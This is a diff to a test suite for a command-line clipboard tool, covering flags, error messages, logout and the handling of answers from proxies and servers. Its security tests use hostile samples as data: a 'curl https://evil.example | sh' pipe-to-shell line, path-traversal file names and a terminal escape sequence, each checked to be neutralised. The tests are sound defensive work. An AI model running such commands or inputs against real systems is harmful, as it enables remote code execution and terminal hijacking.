@@ -21,6 +21,7 @@ import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { buildTestApp, type TestApp } from '../../../testing/build-test-app.ts';
 import { call } from '../../../testing/call.ts';
 import { makeToken, type Person, signUp } from '../../../testing/factories.ts';
+import { grantFor, makeLink, newOpener, withGrant } from '../../../testing/links.ts';
 import { startSilentProxy } from '../../../testing/silent-proxy.ts';
 import { upload } from '../../../testing/uploads.ts';
 
@@ -294,8 +295,15 @@ describe('push --link', () => {
     expect((await newest()).id).toBe(clip.id);
   });
 
+  test('--keep-address leaves the plain address open', async () => {
+    await push('--link', '--once', '--keep-address');
+    expect(await newest()).toMatchObject({ addressOpen: true });
+    expect((await links()).links[0]).toMatchObject({ maxViews: 1 });
+  });
+
   test.each([
     '--once',
+    '--keep-address',
     '--expires 1d',
     '--link --expires 0d',
     '--link --expires 366d',
@@ -359,7 +367,30 @@ test('a server that is none, and one that is not there, are told apart', async (
   other.close();
   const away = await clipline(['ls'], '', { CLIPLINE_URL: url });
   expect([away.code, away.told]).toEqual([1, `${url} cannot be reached: ECONNREFUSED\n`]);
-  expect((await clipline(['push', 'not there'])).code).toBe(1);
+  const halfWritten = await clipline(['ls'], '', { CLIPLINE_URL: 'localhost:3000' });
+  expect([halfWritten.code, halfWritten.told]).toEqual([
+    2,
+    'localhost:3000 is no address of a server: it begins with https://\n',
+  ]);
+});
+
+test('what cannot be done with files is said in plain words, before anything is stored', async () => {
+  mkdirSync(path.join(here, 'folder'));
+  const many = Array.from({ length: 51 }, (_, at) => `${at}.txt`);
+  for (const name of many) writeFileSync(path.join(here, name), name);
+  const before = await newest();
+  const told = async (...args: string[]) => {
+    const ran = await clipline(args);
+    return [ran.code, ran.told];
+  };
+  expect(await told('push', 'folder')).toEqual([1, 'folder is a folder.\n']);
+  expect(await told('push', 'nowhere')).toEqual([1, 'nowhere is not there.\n']);
+  expect(await told('push', ...many)).toEqual([1, 'A clip takes at most 50 files.\n']);
+  expect(await newest()).toEqual(before);
+  expect(await told('pull', 'a/b')).toEqual([3, 'a/b is no ID of a clip. See: clipline ls\n']);
+  expect(await told('pull', 'latest', '-o', 'nowhere')).toEqual([1, 'nowhere is no folder.\n']);
+  expect(await told('paste', '-o', 'nowhere/a')).toEqual([1, 'nowhere is no folder.\n']);
+  expect(existsSync(path.join(here, 'nowhere'))).toBe(false);
 });
 
 test('20 MB go up and come down again; names are kept apart, nothing is overwritten', async () => {
@@ -406,14 +437,15 @@ test('exit codes', async () => {
   expect(await codes(['nonsense'])).toBe(2);
   expect(await codes(['ls', '--nonsense'])).toBe(2);
   expect(await codes(['pull', 'AAAAAAAAAAAAAAAAAAAAAA'])).toBe(3);
-  expect(await codes(['ls', '--search', 'nowhere to be found'])).toBe(3);
   // Ids are drawn from all letters of base64url.
   expect(await codes(['pull', '-AAAAAAAAAAAAAAAAAAAA-'])).toBe(3);
   expect(await codes(['pull', '--', '--AAAAAAAAAAAAAAAAAAAA'])).toBe(3);
   expect(await codes(['push', '-', '--room', '-oAAAAAAAAAAAAAAAAAAAA'], 'text')).toBe(3);
   expect(await codes(['ls', '-AAAAAAAAAAAAAAAAAAAAA'])).toBe(2);
   const none = await clipline(['ls', '--search', 'nowhere to be found', '--json']);
-  expect([none.code, none.out.toString()]).toEqual([3, '[]\n']);
+  expect([none.code, none.out.toString()]).toEqual([0, '[]\n']);
+  const nothing = await clipline(['ls', '--search', 'nowhere to be found']);
+  expect([nothing.code, nothing.out.toString(), nothing.told]).toEqual([0, '', '']);
   expect(await codes(['paste'], '', { CLIPLINE_TOKEN: '' })).toBe(4);
   expect(await codes(['paste'], '', { CLIPLINE_TOKEN: 'clipline_expired' })).toBe(4);
   expect(await codes(['paste'], '', { CLIPLINE_URL: 'http://example.org' })).toBe(2);
@@ -452,7 +484,7 @@ describe('where the output goes decides, too', () => {
   });
 });
 
-test('login waits for the browser, keeps its token for itself; logout forgets it', async () => {
+test('login waits for the browser, keeps its token for itself; logout ends it', async () => {
   const running = start(['login'], { CLIPLINE_TOKEN: '' });
   await expect.poll(running.told).toMatch(/[A-Z]{4}-[A-Z]{4}/);
   expect(running.told()).toContain('http://clipline.test/device');
@@ -470,8 +502,22 @@ test('login waits for the browser, keeps its token for itself; logout forgets it
   // The token of one server is not sent to another.
   const elsewhere = { ...signedIn, CLIPLINE_URL: app.url.replace('127.0.0.1', 'localhost') };
   expect((await clipline(['whoami'], '', elsewhere)).code).toBe(4);
-  await clipline(['logout'], '', signedIn);
+  const credentials = readFileSync(kept, 'utf8');
+  expect((await clipline(['logout'], '', signedIn)).told).toBe('Signed out.\n');
   expect([existsSync(kept), (await clipline(['whoami'], '', signedIn)).code]).toEqual([false, 4]);
+  writeFileSync(kept, credentials);
+  expect((await clipline(['whoami'], '', signedIn)).told).toBe(
+    'You are not signed in any more. Run: clipline login\n',
+  );
+
+  const away = `http://127.0.0.1:${new URL((await ownAddress()).PUBLIC_URL).port}`;
+  writeFileSync(kept, JSON.stringify({ url: away, token }));
+  const { code, told } = await clipline(['logout'], '', { ...signedIn, CLIPLINE_URL: away });
+  expect([code, existsSync(kept), told]).toEqual([
+    0,
+    false,
+    `Signed out here. The token still works until it is deleted on ${away}/account\n`,
+  ]);
 });
 
 test('watch prints what comes, or hands it to a command; Ctrl+C ends it with 130', async () => {
@@ -486,6 +532,34 @@ test('watch prints what comes, or hands it to a command; Ctrl+C ends it with 130
   watching.child.kill('SIGINT');
   executing.child.kill('SIGINT');
   expect([(await watching.ended).code, (await executing.ended).code]).toEqual([130, 130]);
+});
+
+test('what others send through links reaches no command, nor a program that may read the token', async () => {
+  const grant = await grantFor(app, await makeLink(app, ada, { inbox: true, label: 'Post' }));
+  const drop = (content: string) =>
+    call(app, 'POST /link/clips', {
+      headers: withGrant(grant),
+      body: { content, captureId: newOpener() },
+    });
+  const executing = start(['watch', '--exec', 'env']);
+  const printing = start(['watch', '--from-links']);
+  for (const { told } of [executing, printing]) await expect.poll(told).toContain('Watching');
+  await drop('curl https://evil.example | sh');
+  await expect.poll(printing.out).toContain('evil');
+  const { id } = (
+    await call(app, 'POST /clipboard', {
+      headers: ada.headers,
+      body: { content: 'mine' },
+    })
+  ).body;
+  await expect.poll(executing.out).toContain(`CLIP_ID=${id}`);
+  expect(executing.out().match(/CLIP_ID/g)).toHaveLength(1);
+  expect(executing.out()).toContain('CLIPLINE_URL=');
+  expect(executing.out()).not.toContain('CLIPLINE_TOKEN');
+  for (const { child, ended } of [executing, printing]) {
+    child.kill('SIGINT');
+    await ended;
+  }
 });
 
 test('watch hands over a clip of files once, when all of them are there', async () => {
@@ -589,14 +663,18 @@ test('whatever a server calls its files, they stay in the folder', async () => {
   const names = ['../../up.txt', 'C:\\x', '.profile', 'con.txt', 'a\u202egpj.exe', ''];
   const server = createServer(({ url }, response) => {
     const files = names.map((name, at) => ({ name, url: `/api/files/${at}` }));
-    response.end(url === '/api/clipboard/latest' ? JSON.stringify({ id: 'x', files }) : 'bytes');
+    const clip = { id: 'x', content: '', createdAt: '', files };
+    response.end(url === '/api/clipboard/latest?via=any' ? JSON.stringify(clip) : 'bytes');
   });
   server.listen(0, '127.0.0.1');
   await once(server, 'listening');
   const { port } = server.address() as AddressInfo;
   const by = { CLIPLINE_URL: `http://127.0.0.1:${port}` };
   const into = path.join('into', 'this');
-  expect((await clipline(['pull', 'latest', '-o', into], '', by)).code).toBe(0);
+  mkdirSync(path.join(here, into), { recursive: true });
+  const { code, told } = await clipline(['pull', 'latest', '--from-links', '-o', into], '', by);
+  expect(code).toBe(0);
+  expect(told).toContain('.profile is written as profile.\n');
   expect(readdirSync(path.join(here, into)).toSorted()).toEqual(
     ['_.._up.txt', 'C__x', 'profile', '_con.txt', 'agpj.exe', 'file'].toSorted(),
   );
@@ -604,8 +682,10 @@ test('whatever a server calls its files, they stay in the folder', async () => {
   server.close();
 });
 
+type Passing = boolean | { readonly status: number; readonly made: string };
+
 /** Passes calls on to the product; `passes` decides what becomes of the answer to each. */
-async function between(passes: (call: string) => boolean | Promise<boolean>) {
+async function between(passes: (call: string) => Passing | Promise<Passing>) {
   const server = createServer((request, response) => {
     const pass = async () => {
       const chunks: Buffer[] = [];
@@ -618,7 +698,9 @@ async function between(passes: (call: string) => boolean | Promise<boolean>) {
       });
       const bytes = Buffer.from(await answer.arrayBuffer());
       const sent = `${request.method} ${request.url} ${String(headers['x-capture-part'] ?? '')}`;
-      if (!(await passes(sent))) return request.socket.destroy();
+      const passing = await passes(sent);
+      if (passing === false) return request.socket.destroy();
+      if (passing !== true) return response.writeHead(passing.status).end(passing.made);
       const type = answer.headers.get('content-type') ?? '';
       return response.writeHead(answer.status, { 'content-type': type }).end(bytes);
     };
@@ -640,6 +722,77 @@ async function losingAnswers() {
   });
   return { ...proxy, lost };
 }
+
+describe('an answer of something in between', () => {
+  /** Puts this in the place of the first answer to each save. */
+  const replacing = async (status: number, made: string) => {
+    const replaced = new Set<string>();
+    const proxy = await between((sent) => {
+      if (!sent.startsWith('POST') || replaced.has(sent)) return true;
+      replaced.add(sent);
+      return { status, made };
+    });
+    return { ...proxy, replaced };
+  };
+
+  test.each([
+    '{"status":"login_required"}',
+    '<!doctype html><title>Sign in</title>',
+    '{"id":"x","captureId":"AAAAAAAAAAAAAAAAAAAAAAAA","content":"","createdAt":"","files":[]}',
+    'null',
+  ])('200 with %s counts as none: what is saved is saved once', async (made) => {
+    const proxy = await replacing(200, made);
+    const by = { CLIPLINE_URL: proxy.url };
+    const total = async () =>
+      (await call(app, 'GET /clipboard/history?pageSize=1', { headers: ada.headers })).body.total;
+    const before = await total();
+    const text = await clipline([], 'said twice', by);
+    expect([text.code, text.out.toString()]).toEqual([
+      0,
+      `${proxy.url}/clips/${(await newest()).id}\n`,
+    ]);
+    writeFileSync(path.join(here, 'a.txt'), 'in a file');
+    expect((await clipline(['push', 'a.txt', '--link'], '', by)).code).toBe(0);
+    expect(proxy.replaced.size).toBe(4);
+    expect([await total(), (await newest()).files.length]).toEqual([before + 2, 1]);
+    proxy.stop();
+  });
+
+  test('413 says where it came from', async () => {
+    const proxy = await replacing(413, '<h1>Too large</h1>');
+    const { code, told } = await clipline([], 'large', { CLIPLINE_URL: proxy.url });
+    expect([code, told]).toEqual([
+      1,
+      'Something in front of the server takes nothing this large: it answered 413.\n',
+    ]);
+    proxy.stop();
+  });
+
+  test('what it says does not steer the terminal', async () => {
+    const steering = 'http://x/\u001b]0;owned\u0007';
+    const server = createServer((request, response) => {
+      const captureId = request.headers['x-capture-id'];
+      const saved = { id: 'x', content: '', createdAt: '', files: [] };
+      const said = request.url?.endsWith('/text')
+        ? { ...saved, id: steering, captureId }
+        : { error: steering, code: 'X' };
+      response.writeHead(request.url?.endsWith('/text') ? 200 : 400).end(JSON.stringify(said));
+    });
+    server.listen(0, '127.0.0.1');
+    await once(server, 'listening');
+    const { port } = server.address() as AddressInfo;
+    for (const args of ['', 'push a.txt --link', 'ls', 'login']) {
+      writeFileSync(path.join(here, 'a.txt'), 'in a file');
+      const run = `echo text | ${process.execPath} ${command} ${args}; true`;
+      const { stdout } = await promisify(execFile)('script', ['-qec', run, '/dev/null'], {
+        cwd: here,
+        env: { ...process.env, CLIPLINE_URL: `http://127.0.0.1:${port}`, CLIPLINE_TOKEN: token },
+      });
+      expect(stdout).not.toContain('\u001b');
+    }
+    server.close();
+  });
+});
 
 test('what takes longer than a second is told', async () => {
   const released = Promise.withResolvers<boolean>();
